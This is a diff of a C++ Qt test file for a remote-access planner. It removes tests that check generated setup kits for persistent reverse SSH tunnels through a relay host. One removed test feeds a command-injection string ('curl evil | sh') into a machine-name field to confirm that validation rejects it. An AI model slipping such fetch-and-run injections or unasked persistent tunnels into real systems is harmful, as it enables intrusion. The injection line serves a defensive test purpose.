@@ -1,9 +1,7 @@
-#include "core/profile/profilejson.h"
 #include "core/situations/planner.h"
 #include "core/topology/topology.h"
 #include "tests/support/testprogram.h"
 
-#include <QJsonDocument>
 #include <QTest>
 
 using namespace culvert;
@@ -41,8 +39,6 @@ private slots:
     void asksInOrder();
     void saysWhenItCannotBeDone();
     void growsWithEveryAnswer();
-    void writesTheKitForTheOtherMachine();
-    void kitStartsByItself();
     void keepsProfilesValid();
 };
 
@@ -132,46 +128,6 @@ void TestPlanner::growsWithEveryAnswer()
         answerTo(*question, answers) = PlannerAnswer::No;
     }
     QCOMPARE(nodes, 7);
-}
-
-void TestPlanner::writesTheKitForTheOtherMachine()
-{
-    const Proposal proposal = proposalFor(answered(u"nnnny"_s, Wish::Login, false));
-    const QList<Half> &halves = proposal.situation.halves;
-    QCOMPARE(remoteSetup(halves[0]), QString());
-    const QString kit = remoteSetup(halves[1]);
-    QVERIFY2(kit.contains(u"-R 12345:localhost:22 bob@relay.example.org"_s), qPrintable(kit));
-    QVERIFY2(kit.contains(u"restrict,port-forwarding,permitlisten=\"localhost:12345\""_s),
-             qPrintable(kit));
-    QVERIFY(kit.contains(u"ExitOnForwardFailure=yes"_s));
-    for (const QString &part :
-         {u"Restart=always"_s, u"loginctl enable-linger"_s, u"<key>KeepAlive</key>"_s,
-          u"<RestartOnFailure>"_s, u"command=\"false\""_s})
-        QVERIFY2(kit.contains(part), qPrintable(part));
-}
-
-void TestPlanner::kitStartsByItself()
-{
-    const Proposal proposal = proposalFor(answered(u"nnnny"_s, Wish::Login, false));
-    const Half &half = proposal.situation.halves[1];
-    const QString known = remoteSetup(half, {u"relay.example.org ssh-ed25519 AAAA"_s});
-    QVERIFY2(known.contains(u"ssh-keygen -t ed25519"_s), qPrintable(known));
-    QVERIFY(known.contains(u"\nrelay.example.org ssh-ed25519 AAAA\nEND\n"_s));
-    QVERIFY(!known.contains(u"by hand"_s));
-    QVERIFY(remoteSetup(half).contains(u"one login by hand"_s));
-
-    // an imported name must not write a line of its own
-    Profile evil = half.profile;
-    evil.surroundings.thisMachine = u"nas\ncurl evil | sh #"_s;
-    QCOMPARE(problemsOf(evil).value(0).field, u"surroundings"_s);
-
-    // what their Culvert imports runs there
-    const QByteArray json = known.sliced(known.indexOf(u"\n{"_s)).toUtf8();
-    const Result<Profile> theirs = profileFromJson(QJsonDocument::fromJson(json).object());
-    QVERIFY2(theirs, theirs ? "" : qPrintable(theirs.error().message));
-    QCOMPARE(theirs->surroundings.seat, Seat::Dialler);
-    QCOMPARE(theirs->forwards, half.profile.forwards);
-    QCOMPARE(theirs->host, half.profile.host);
 }
 
 void TestPlanner::keepsProfilesValid()
